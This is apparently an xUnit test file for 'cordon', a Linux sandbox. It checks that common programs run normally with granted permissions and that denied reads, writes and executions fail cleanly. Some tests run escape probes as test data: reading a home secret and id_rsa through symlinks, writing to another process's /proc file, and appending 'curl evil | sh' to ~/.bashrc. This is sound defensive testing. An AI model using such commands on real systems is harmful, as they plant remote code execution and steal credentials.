using Xunit;

namespace Cordon.Kernel.Tests;

/// <summary>Ordinary programs under cordon: allowed work gives the same result as a bare run; denied work fails and writes nothing.</summary>
public sealed class RealProgramTests : IDisposable
{
    private readonly Sandboxed s = new();

    public void Dispose() => s.Dispose();

    private string[] Granted(params string[] program) =>
        ["run", "--allow-read=" + s.Work, "--allow-write=" + s.Work, "--allow-run=" + s.Work, "--", .. program];

    [Fact]
    public void Shell_echo_prints_the_same_as_a_bare_run()
    {
        var bare = s.Bare("sh", "-c", "echo hello; ls /usr/bin/env; cat /etc/hostname");
        var confined = s.Cordon("run", "--", "sh", "-c", "echo hello; ls /usr/bin/env; cat /etc/hostname");
        Assert.True(confined.ExitCode == 0, confined.ToString());
        Assert.Equal(bare.Stdout, confined.Stdout);
    }

    [Fact]
    public void Cat_of_a_secret_in_home_is_denied_and_names_the_flag()
    {
        var r = s.Cordon("run", "--", "cat", s.Secret);
        Assert.NotEqual(0, r.ExitCode);
        s.AssertNoSecret(r);
        Assert.Contains("Permission denied", r.Stderr, StringComparison.Ordinal);
        Assert.Contains("--allow-read=" + s.Secret, r.Stderr, StringComparison.Ordinal);
    }

    [Fact]
    public void A_program_sets_its_own_name_and_core_dump_filter_as_every_JVM_does_but_not_another_processes()
    {
        // A process of the same user outside the sandbox: its core dump filter is not the program's to change.
        using var outside = System.Diagnostics.Process.Start("sleep", "60");
        try
        {
            string filter = $"/proc/{outside.Id}/coredump_filter";
            string before = File.ReadAllText(filter);
            var r = s.Cordon("run", "--", "sh", "-c",
                "echo 0x7f > /proc/self/coredump_filter && cat /proc/self/coredump_filter && ls /sys/kernel/mm/hugepages > /dev/null"
                + $" && printf renamed > /proc/self/comm && echo set; echo 0x1 > {filter} && echo ESCAPED; true");
            Assert.True(r.ExitCode == 0, r.ToString());
            Assert.Contains("0000007f", r.Stdout, StringComparison.Ordinal);
            Assert.Contains("set", r.Stdout, StringComparison.Ordinal);
            Assert.DoesNotContain("ESCAPED", r.Stdout, StringComparison.Ordinal);
            Assert.DoesNotContain("asked as /proc/self", r.Stderr, StringComparison.Ordinal);
            Assert.DoesNotContain("hugepages", r.Stderr, StringComparison.Ordinal);
            Assert.Equal(before, File.ReadAllText(filter));
        }
        finally
        {
            outside.Kill();
        }
    }

    [Fact]
    public void Mkdir_p_of_an_allowed_folder_makes_the_folders_on_the_way_and_nothing_else_there()
    {
        // A build tool's cache on a fresh machine: ~/.m2/repository allowed, ~/.m2 not there yet.
        var cache = Path.Combine(s.Home, ".m2", "repository");
        var r = s.Cordon("run", "--no-prompt", "--allow-write=" + cache, "--", "sh", "-c",
            $"mkdir -p {cache}/org && echo x > {cache}/org/a.jar && echo made; echo y > {s.Home}/.m2/settings.xml; mkdir {s.Home}/.m2/other; true");
        Assert.True(r.ExitCode == 0, r.ToString());
        Assert.Contains("made", r.Stdout, StringComparison.Ordinal);
        Assert.True(File.Exists(Path.Combine(cache, "org", "a.jar")), r.ToString());
        Assert.False(File.Exists(Path.Combine(s.Home, ".m2", "settings.xml")), r.ToString());
        Assert.False(Directory.Exists(Path.Combine(s.Home, ".m2", "other")), r.ToString());
    }

    [Fact]
    public void Cat_of_an_allowed_file_works()
    {
        var f = s.WorkFile("a.txt", "content-a\n");
        var r = s.Cordon(Granted("cat", f));
        Assert.True(r.ExitCode == 0, r.ToString());
        Assert.Equal("content-a\n", r.Stdout);
    }

    [Fact]
    public void Copy_of_a_tree_gives_identical_files_and_a_denied_destination_gets_nothing()
    {
        s.WorkFile("src/a.txt", "A");
        s.WorkFile("src/sub/b.txt", "B");
        var r = s.Cordon(Granted("cp", "-r", "src", "dst"));
        Assert.True(r.ExitCode == 0, r.ToString());
        Assert.Equal("A", File.ReadAllText(Path.Combine(s.Work, "dst/a.txt")));
        Assert.Equal("B", File.ReadAllText(Path.Combine(s.Work, "dst/sub/b.txt")));

        var outside = Path.Combine(s.Home, "copied");
        var denied = s.Cordon(Granted("cp", "-r", "src", outside));
        Assert.NotEqual(0, denied.ExitCode);
        Assert.False(Directory.Exists(outside), "a denied copy must leave nothing behind");
    }

    [Fact]
    public void Tar_round_trip_in_the_work_directory()
    {
        s.WorkFile("t/one.txt", "1");
        s.WorkFile("t/two.txt", "22");
        var r = s.Cordon(Granted("sh", "-c", "tar cf t.tar t && mkdir x && tar xf t.tar -C x && cat x/t/one.txt x/t/two.txt"));
        Assert.True(r.ExitCode == 0, r.ToString());
        Assert.Equal("122", r.Stdout);
    }

    [Fact]
    public void Git_init_add_commit_and_log()
    {
        s.WorkFile("repo/readme", "hi\n");
        var script = "cd repo && git init -q && git add readme && git -c user.name=t -c user.email=t@e commit -qm first && git log --format=%s";
        var r = s.Cordon(Granted("sh", "-c", script));
        Assert.True(r.ExitCode == 0, r.ToString());
        Assert.Equal("first\n", r.Stdout);
        Assert.True(Directory.Exists(Path.Combine(s.Work, "repo/.git/objects")));
    }

    [Fact]
    public void Python_reads_and_writes_in_the_work_directory_but_not_the_secret()
    {
        s.WorkFile("in.txt", "data");
        var code = $$"""
            open('out.txt', 'w').write(open('in.txt').read().upper())
            try:
                open('{{s.Secret}}').read()
                print('LEAK')
            except PermissionError:
                print('denied')
            """;
        var r = s.Cordon(Granted("python3", "-c", code));
        Assert.True(r.ExitCode == 0, r.ToString());
        Assert.Equal("denied\n", r.Stdout);
        Assert.Equal("DATA", File.ReadAllText(Path.Combine(s.Work, "out.txt")));
        s.AssertNoSecret(r);
    }

    [Fact]
    public void Absolute_paths_through_symlinks_are_decided_where_they_lead_every_time()
    {
        // Every spelling of a path is decided where it leads (a symlinked folder, a symlink, "..", "//"), the same
        // way each time. openat2's RESOLVE_IN_ROOT reads "/" as its dirfd (not cordon's working directory, which is
        // the work directory here: hence a dirfd below it).
        s.WorkFile("in.txt", "data");
        s.WorkFile("sub/in.txt", "below");
        File.CreateSymbolicLink(Path.Combine(s.Work, "keys"), Path.GetDirectoryName(s.Secret)!);
        File.CreateSymbolicLink(Path.Combine(s.Work, "alias"), Path.Combine(s.Work, "in.txt"));
        File.CreateSymbolicLink(Path.Combine(s.Work, "sub", "alias"), "in.txt");
        var code = $$"""
            import ctypes, os, struct
            libc = ctypes.CDLL(None, use_errno=True)
            def openat2(dirfd, path, resolve):
                how = struct.pack('QQQ', os.O_RDONLY, 0, resolve)
                fd = libc.syscall(437, dirfd, path.encode(), how, len(how))
                if fd < 0:
                    return 'errno %d' % ctypes.get_errno()
                with os.fdopen(fd) as f:
                    return f.read()
            for round in range(2):
                for p in ['{{s.Work}}/keys/id_rsa', '{{s.Work}}/alias', '{{s.Work}}/sub/../in.txt', '{{s.Work}}//in.txt', '{{s.Work}}/in.txt']:
                    try:
                        print(open(p).read())
                    except PermissionError:
                        print('denied')
            sub = os.open('{{s.Work}}/sub', os.O_RDONLY | os.O_DIRECTORY)
            print(openat2(sub, '/in.txt', 0x10))
            print(openat2(sub, '/alias', 0x10 | 0x04))
            """;
        var r = s.Cordon(Granted("python3", "-c", code));
        Assert.True(r.ExitCode == 0, r.ToString());
        Assert.Equal(string.Concat(Enumerable.Repeat("denied\ndata\ndata\ndata\ndata\n", 2)) + "below\nerrno 40\n", r.Stdout);
        s.AssertNoSecret(r);
    }

    [Fact]
    public void Node_reads_and_writes_in_the_work_directory_but_not_the_secret()
    {
        s.WorkFile("in.txt", "node-data");
        var code = $$"""
            const fs = require('fs');
            fs.writeFileSync('out.txt', fs.readFileSync('in.txt', 'utf8') + '!');
            try { fs.readFileSync('{{s.Secret}}'); console.log('LEAK'); } catch (e) { console.log(e.code); }
            """;
        var r = s.Cordon(Granted("node", "-e", code));
        Assert.True(r.ExitCode == 0, r.ToString());
        Assert.Equal("EACCES\n", r.Stdout);
        Assert.Equal("node-data!", File.ReadAllText(Path.Combine(s.Work, "out.txt")));
        s.AssertNoSecret(r);
    }

    [Fact]
    public void Make_and_cc_build_and_run_a_program()
    {
        s.WorkFile("hello.c", "#include <stdio.h>\nint main(void){puts(\"built\");return 0;}\n");
        s.WorkFile("Makefile", "hello: hello.c\n\tcc -O1 -o hello hello.c\n");
        var r = s.Cordon(Granted("sh", "-c", "make -s && ./hello"));
        Assert.True(r.ExitCode == 0, r.ToString());
        Assert.Equal("built\n", r.Stdout);
    }

    [Fact]
    public void A_multithreaded_program_opens_files_from_many_threads()
    {
        s.WorkFile("mt.c", """
            #include <pthread.h>
            #include <fcntl.h>
            #include <stdio.h>
            #include <unistd.h>
            static int ok;
            static pthread_mutex_t m = PTHREAD_MUTEX_INITIALIZER;
            static void *run(void *a) { (void)a;
              for (int i = 0; i < 500; i++) { int fd = open("mt.c", O_RDONLY); if (fd >= 0) { close(fd); pthread_mutex_lock(&m); ok++; pthread_mutex_unlock(&m); } }
              return 0; }
            int main(void) { pthread_t t[8]; for (int i = 0; i < 8; i++) pthread_create(&t[i], 0, run, 0);
              for (int i = 0; i < 8; i++) pthread_join(t[i], 0); printf("%d\n", ok); return 0; }
            """);
        var r = s.Cordon(Granted("sh", "-c", "cc -O1 -pthread -o mt mt.c && ./mt"));
        Assert.True(r.ExitCode == 0, r.ToString());
        Assert.Equal("4000\n", r.Stdout);
    }

    [Fact]
    public void A_program_built_in_the_project_does_not_run_unless_allowed()
    {
        s.WorkFile("hello.c", "int main(void){return 0;}\n");
        var r = s.Cordon("run", "--allow-read=" + s.Work, "--allow-write=" + s.Work, "--", "sh", "-c", "cc -o hello hello.c && ./hello");
        Assert.Equal(126, r.ExitCode);
        Assert.Contains("--allow-run=" + Path.Combine(s.Work, "hello"), r.Stderr, StringComparison.Ordinal);
    }

    [Fact]
    public void A_denied_write_outside_leaves_no_file()
    {
        var target = Path.Combine(s.Home, ".bashrc");
        var before = File.ReadAllText(target);
        var r = s.Cordon(Granted("sh", "-c", $"echo 'curl evil | sh' >> {target}"));
        Assert.NotEqual(0, r.ExitCode);
        Assert.Equal(before, File.ReadAllText(target));
        Assert.Contains("--allow-write=" + target, r.Stderr, StringComparison.Ordinal);
    }

    [Fact]
    public void Created_files_get_the_programs_umask()
    {
        var r = s.Cordon(Granted("sh", "-c", "umask 027; touch f; mkdir d; stat -c %a f d"));
        Assert.True(r.ExitCode == 0, r.ToString());
        Assert.Equal("640\n750\n", r.Stdout);
    }

    [Fact]
    public void A_bound_unix_socket_gets_the_programs_umask_and_the_socket_keeps_its_own_mode()
    {
        // As bare: the socket file gets the socket's mode (0777, or what fchmod set before the bind) less the umask.
        var code = $$"""
            import os, socket, stat
            for mask, before in ((0o027, None), (0o002, None), (0o022, 0o710)):
                os.umask(mask)
                s = socket.socket(socket.AF_UNIX)
                if before is not None:
                    os.fchmod(s.fileno(), before)
                path = '{{s.Work}}/sock%o' % mask
                s.bind(path)
                print('%o %o' % (stat.S_IMODE(os.stat(path).st_mode), stat.S_IMODE(os.fstat(s.fileno()).st_mode)))
            """;
        var elsewhere = Directory.CreateDirectory(Path.Combine(s.Root, "bare")).FullName;
        var bare = s.Bare("python3", "-c", code.Replace(s.Work, elsewhere, StringComparison.Ordinal));
        Assert.Equal("750 777\n775 777\n710 710\n", bare.Stdout);
        var r = s.Cordon(Granted("python3", "-c", code));
        Assert.True(r.ExitCode == 0, r.ToString());
        Assert.Equal(bare.Stdout, r.Stdout);
    }

    [Fact]
    public void Rename_unlink_symlink_chmod_and_truncate_inside_the_work_directory()
    {
        s.WorkFile("f", "0123456789");
        var r = s.Cordon(Granted("sh", "-c", "mv f g && ln -s g l && chmod 600 g && truncate -s 3 g && cat l && rm l g && ls"));
        Assert.True(r.ExitCode == 0, r.ToString());
        Assert.Equal("012", r.Stdout);
    }
}
